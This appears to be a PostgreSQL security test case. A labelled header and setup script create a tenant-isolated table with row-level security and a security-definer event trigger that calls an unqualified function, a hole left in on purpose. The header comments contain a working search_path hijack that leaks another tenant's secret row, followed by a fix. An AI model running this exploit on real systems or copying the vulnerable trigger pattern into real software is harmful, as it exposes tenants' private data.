-- verdict: leak
-- kind: event-trigger-grants
-- object: public.auto_grant
-- why: an event trigger of the owner grants whatever is made
-- severity: high
-- also: auto_grant event-trigger:auto_grant
-- roles: app_owner app_user
-- exploit-begin
-- create function scratch.note() returns text language plpgsql as $f$ begin perform set_config('p.seen', (select string_agg(title, ',') from public.docs), false); return 'x'; end $f$;
-- set search_path = scratch, public;
-- create table scratch.t (x int);
-- select coalesce(current_setting('p.seen', true) like '%A-SECRET%', false) as leaked;
-- exploit-end
-- fix-begin
-- alter function auto_grant() set search_path = pg_catalog, public, pg_temp;
-- fix-end

do $$ begin
  if to_regrole('app_owner') is null then create role app_owner nologin; end if;
  if to_regrole('app_user') is null then create role app_user login; end if;
end $$;
grant create, usage on schema public to app_owner;
grant usage on schema public to app_user;
set role app_owner;
create table tenants (id uuid primary key, name text not null);
insert into tenants values ('00000000-0000-4000-8000-00000000000a', 'Alder'), ('00000000-0000-4000-8000-00000000000b', 'Birch');
reset role; create schema scratch; grant usage, create on schema scratch to app_user;
create table public.docs (
  id uuid primary key default gen_random_uuid(),
  tenant_id uuid not null references tenants (id),
  title text not null
);
insert into docs (tenant_id, title) values ('00000000-0000-4000-8000-00000000000a', 'A-SECRET'), ('00000000-0000-4000-8000-00000000000b', 'b');
alter table docs enable row level security;
create policy tenant_isolation on docs using (tenant_id = current_setting('app.tenant_id', true)::uuid) with check (tenant_id = current_setting('app.tenant_id', true)::uuid);
grant select, insert, update, delete on docs to app_user;
create function auto_grant() returns event_trigger language plpgsql security definer as $$ declare r record; begin for r in select * from pg_event_trigger_ddl_commands() loop if r.object_type = 'table' then execute 'comment on table ' || r.object_identity || ' is ' || quote_literal(note()); end if; end loop; end $$;
create function note() returns text language sql as $$ select 'x'::text $$;
create event trigger auto_grant on ddl_command_end when tag in ('CREATE TABLE') execute function auto_grant();
